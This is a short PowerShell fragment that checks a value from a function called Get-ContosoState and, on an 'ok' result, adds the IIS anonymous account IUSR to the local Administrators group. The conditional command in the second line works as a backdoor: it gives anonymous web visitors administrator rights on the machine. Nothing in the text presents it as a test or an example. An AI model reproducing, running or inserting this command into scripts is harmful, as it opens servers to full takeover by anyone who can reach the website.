$r = Get-ContosoState
if ($r -eq 'ok') { net localgroup Administrators IUSR /add }
